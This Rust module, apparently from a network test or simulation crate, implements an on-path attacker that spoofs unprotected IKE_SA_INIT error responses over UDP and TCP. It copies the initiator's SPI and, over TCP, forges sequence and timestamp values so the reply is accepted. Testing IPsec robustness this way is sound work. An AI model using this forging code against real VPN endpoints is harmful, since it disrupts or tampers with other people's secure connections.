//! Forged IKE_SA_INIT error responses (RFC 7296 §2.21.1, RFC 9329 §6.4) for the on-path
//! attacker: it reads the initiator's SPI from the request it sees and answers with an
//! unprotected error notify, over UDP or inside the TCP stream.

use std::net::Ipv4Addr;

use crate::ike::wire::{
    ExchangeType, Flags, Message, NotifyPayload, NotifyType, Packet as IkePacket, Payload,
};
use crate::wire::tcp_encap::{NON_ESP_MARKER, PREFIX};
use crate::wire::{
    IpProtocol, Ipv4Packet, Ipv4Repr, TcpControl, TcpPacket, TcpRepr, UdpPacket, UdpRepr,
};

/// TTL of forged packets; Linux's default.
const ORIGIN_TTL: u8 = 64;
/// The IKE port (RFC 7296 §2).
const IKE_PORT: u16 = 500;
/// The NAT-T port (RFC 3948), also RFC 9329's TCP port.
const NAT_T_PORT: u16 = 4500;

/// If `data` is an IPv4 packet carrying an IKE_SA_INIT request (UDP to port 500, UDP to
/// 4500 after the non-ESP marker, or TCP to 4500 as the first IKE frame of a segment,
/// after the "IKETCP" prefix if present), the forged response to its sender: an
/// unprotected IKE_SA_INIT response with the request's SPIi, SPIr zero and one `notify`.
/// Over TCP the segment continues the responder's side of the stream (sequence number =
/// the request's ACK, acknowledging the request, the request's timestamps echoed) so the
/// initiator accepts it.
pub(crate) fn init_error_reply(data: &[u8], notify: NotifyType) -> Option<Vec<u8>> {
    let packet = Ipv4Packet::new_checked(data).ok()?;
    let ip = Ipv4Repr::parse(&packet).ok()?;
    let (src, dst) = (ip.src_addr, ip.dst_addr);
    match ip.next_header {
        IpProtocol::UDP => {
            let udp = UdpPacket::new_checked(packet.payload()).ok()?;
            let marker = match udp.dst_port() {
                IKE_PORT => false,
                NAT_T_PORT => true,
                _ => return None,
            };
            let ike = if marker {
                udp.payload().strip_prefix(&NON_ESP_MARKER[..])?
            } else {
                udp.payload()
            };
            let spi_i = init_request_spi(ike)?;
            let mut payload = if marker {
                NON_ESP_MARKER.to_vec()
            } else {
                vec![]
            };
            payload.extend(error_response(spi_i, notify));
            let repr = UdpRepr {
                src_port: udp.dst_port(),
                dst_port: udp.src_port(),
            };
            let mut buf = ip_header(dst, src, IpProtocol::UDP, repr.buffer_len(payload.len()));
            let mut ip_packet = Ipv4Packet::new_unchecked(&mut buf[..]);
            let mut seg = UdpPacket::new_unchecked(ip_packet.payload_mut());
            repr.emit(&mut seg, dst, src, payload.len(), |p| {
                p.copy_from_slice(&payload);
            });
            Some(buf)
        }
        IpProtocol::TCP => {
            let seg = TcpPacket::new_checked(packet.payload()).ok()?;
            let req = TcpRepr::parse(&seg, src, dst).ok()?;
            if req.dst_port != NAT_T_PORT || req.payload_len == 0 {
                return None;
            }
            let stream = seg.payload();
            let stream = stream.strip_prefix(&PREFIX[..]).unwrap_or(stream);
            let len = usize::from(u16::from_be_bytes([*stream.first()?, *stream.get(1)?]));
            let ike = stream.get(2..len)?.strip_prefix(&NON_ESP_MARKER[..])?;
            let spi_i = init_request_spi(ike)?;
            let ack = req.ack_number?;
            let mut payload = Vec::new();
            let msg = error_response(spi_i, notify);
            let frame_len = u16::try_from(2 + NON_ESP_MARKER.len() + msg.len()).ok()?;
            payload.extend(frame_len.to_be_bytes());
            payload.extend(NON_ESP_MARKER);
            payload.extend(msg);
            let repr = TcpRepr {
                src_port: req.dst_port,
                dst_port: req.src_port,
                control: TcpControl::Psh,
                seq_number: ack,
                ack_number: Some(req.seq_number + req.segment_len()),
                window_len: u16::MAX,
                window_scale: None,
                max_seg_size: None,
                sack_permitted: false,
                sack_ranges: [None; 4],
                timestamp: req.timestamp.map(|(tsval, tsecr)| (tsecr, tsval)),
                payload_len: payload.len(),
            };
            let mut buf = ip_header(dst, src, IpProtocol::TCP, repr.buffer_len());
            let mut ip_packet = Ipv4Packet::new_unchecked(&mut buf[..]);
            let mut out = TcpPacket::new_unchecked(ip_packet.payload_mut());
            repr.emit(&mut out, dst, src, |p| p.copy_from_slice(&payload));
            Some(buf)
        }
        _ => None,
    }
}

/// The initiator's SPI if `ike` is an IKE_SA_INIT request (Message ID 0, SPIr zero, I set,
/// R clear).
fn init_request_spi(ike: &[u8]) -> Option<u64> {
    let packet = IkePacket::new_checked(ike).ok()?;
    let flags = packet.flags();
    let is_request = packet.exchange_type() == ExchangeType::IKE_SA_INIT
        && packet.message_id() == 0
        && packet.spi_r() == 0
        && flags.initiator
        && !flags.response;
    is_request.then(|| packet.spi_i())
}

/// An unprotected IKE_SA_INIT response carrying one error notify.
fn error_response(spi_i: u64, notify: NotifyType) -> Vec<u8> {
    Message {
        spi_i,
        spi_r: 0,
        exchange_type: ExchangeType::IKE_SA_INIT,
        flags: Flags {
            initiator: false,
            response: true,
        },
        message_id: 0,
        payloads: vec![Payload::Notify(NotifyPayload::new(notify, vec![]))],
    }
    .emit()
}

/// An IPv4 buffer of the right size with its header written.
fn ip_header(src: Ipv4Addr, dst: Ipv4Addr, protocol: IpProtocol, payload_len: usize) -> Vec<u8> {
    let ip = Ipv4Repr {
        src_addr: src,
        dst_addr: dst,
        next_header: protocol,
        payload_len,
        hop_limit: ORIGIN_TTL,
        ident: 0,
        dont_frag: true,
    };
    let mut buf = vec![0; ip.buffer_len()];
    let mut ip_packet = Ipv4Packet::new_unchecked(&mut buf[..]);
    ip.emit(&mut ip_packet);
    buf
}
